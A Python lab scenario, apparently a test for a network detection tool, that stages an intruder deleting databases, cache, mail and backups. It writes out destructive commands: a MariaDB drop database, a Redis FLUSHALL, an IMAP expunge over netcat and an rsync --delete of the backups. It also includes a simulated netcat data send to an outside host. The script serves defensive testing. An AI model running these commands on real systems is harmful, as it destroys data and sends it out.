# SPDX-License-Identifier: ISC
"""Somebody gets in everywhere and deletes: databases, mail, and the backups."""

import threading

HOSTS = {"backup": (72, 1), "db": (73, 1), "cache": (74, 1), "mail": (75, 1)}
PACKAGES = ["rsync", "openssh-server", "openssh-client", "mariadb-server-core",
            "mariadb-client-core", "redis-server", "redis-tools", "dovecot-imapd", "curl",
            "netcat-openbsd"]


def play(stage):
    stage.serve("backup", "rsync")
    stage.serve("backup", "openssh")
    stage.serve("db", "mariadb")
    stage.serve("cache", "redis")
    stage.serve("mail", "dovecot")
    colleague = stage.lab.network.colleague.role
    stage.ask(0, "rsync -a rsync://$BACKUP/backup/ $(mktemp -d)", role=colleague)

    # A log-in at the backup host: SSH hides whose, not that.
    stage.ask(0, "ssh-keyscan -T 5 $BACKUP", status=None)
    # The databases: log-ins that succeed, then destruction.
    stage.ask(1, "mariadb --no-defaults --skip-ssl -h $DB -u app -ppw123 "
                 "-e 'drop table shop.users; drop database shop'")
    stage.ask(1, "redis-cli -h $CACHE FLUSHALL")
    stage.ask(2, "printf 'Subject: x\\r\\n\\r\\nx\\r\\n' >/tmp/mail.$$; "
                 "curl -sS --user alice:pw123 -T /tmp/mail.$$ imap://$MAIL/INBOX; rm /tmp/mail.$$")
    stage.ask(2, "(printf 'a LOGIN alice pw123\\r\\nb SELECT INBOX\\r\\n"
                 "c STORE 1:* +FLAGS (\\\\Deleted)\\r\\nd EXPUNGE\\r\\ne LOGOUT\\r\\n'; sleep 2) | "
                 "nc -q 2 $MAIL 143")
    # The backups.
    stage.ask(0, "rsync -a --delete $(mktemp -d)/ rsync://$BACKUP/backup/")
    # And the backup host calls home.
    home = stage.clients[3]
    listener = threading.Thread(target=stage.ask, args=(3, "nc -l 443 >/dev/null"),
                                kwargs={"status": None})
    listener.start()
    stage.ask(0, f"for n in 1 2 3 4 5 6 7 8; do head -c 40000 /dev/urandom | "
                 f"nc -q 1 {home.v4[0]} 443 && break; sleep 0.5; done", role="backup")
    listener.join()
    stage.wait("the call home", "spanwatch.exposure.outgoing=true")
    stage.wait("the last deletion", "level=destroyed", "service=rsync")
